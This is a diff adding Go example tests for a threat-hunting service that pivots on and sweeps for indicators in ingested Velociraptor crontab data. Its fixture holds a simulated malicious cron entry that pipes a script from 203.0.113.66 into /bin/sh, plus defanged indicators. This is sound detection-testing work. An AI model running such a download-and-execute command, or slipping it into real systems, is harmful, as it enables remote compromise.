@@ -1,0 +1,63 @@
+package hunt_test
+
+import (
+	"context"
+	"fmt"
+	"strings"
+
+	"github.com/velocicompanion/velocicompanion/companion/hunt"
+	"github.com/velocicompanion/velocicompanion/companion/hunt/indicator"
+	"github.com/velocicompanion/velocicompanion/ingest"
+	"github.com/velocicompanion/velocicompanion/ingest/velociraptor"
+	"github.com/velocicompanion/velocicompanion/store/memory"
+	"github.com/velocicompanion/velocicompanion/tenancy"
+)
+
+// infected returns a Service over one tenant with two rows of one host.
+func infected(ctx context.Context) (*hunt.Service, tenancy.ID) {
+	stores, tenant := memory.New(), tenancy.New()
+	fine(stores.Tenants.CreateTenant(ctx, tenancy.Tenant{ID: tenant, Name: "Acme"}))
+	in, err := ingest.New(stores.Collections, stores.Hosts, ingest.Config{})
+	fine(err)
+	_, err = in.Ingest(ctx, tenant, &velociraptor.Table{Artifact: "Linux.Sys.Crontab/CronTabs", ClientID: "C.1", Body: strings.NewReader(
+		`{"Command":"curl -s http://203.0.113.66/p.sh | /bin/sh"}` + "\n" + `{"Command":"logrotate"}`)})
+	fine(err)
+	service, err := hunt.New(stores.Collections, stores.Hosts, stores.Hunts, hunt.Config{})
+	fine(err)
+	return service, tenant
+}
+
+func fine(err error) {
+	if err != nil {
+		panic(err)
+	}
+}
+
+func ExampleService_Pivot() {
+	ctx := context.Background()
+	service, tenant := infected(ctx)
+	found, err := service.Pivot(ctx, hunt.Pivot{Scope: hunt.Scope{Tenants: []tenancy.ID{tenant}}, Value: "203[.]0[.]113[.]66"})
+	fine(err)
+	for _, h := range found.Hosts {
+		for _, a := range h.Artifacts {
+			fmt.Println(found.Kind, found.Value, h.Host.ClientID, a.Artifact, a.Rows)
+		}
+	}
+	// Output: ip 203.0.113.66 C.1 Linux.Sys.Crontab/CronTabs 1
+}
+
+func ExampleService_Sweep() {
+	ctx := context.Background()
+	service, tenant := infected(ctx)
+	list, err := indicator.Read(strings.NewReader("# beacon\nhxxp://203.0.113.66/p.sh\nevil[.]example\nno indicator\n"))
+	fine(err)
+	found, err := service.Sweep(ctx, hunt.Sweep{Scope: hunt.Scope{Tenants: []tenancy.ID{tenant}}, List: list})
+	fine(err)
+	for _, h := range found.Hits {
+		fmt.Println(h.Indicator, h.Kind, h.Host.ClientID, h.Artifact, h.Rows)
+	}
+	fmt.Println(found.Misses, "missed,", found.Invalid[0].Reason, "in line", found.Invalid[0].Line)
+	// Output:
+	// hxxp://203.0.113.66/p.sh url C.1 Linux.Sys.Crontab/CronTabs 1
+	// 1 missed, not an indicator of a known kind in line 4
+}
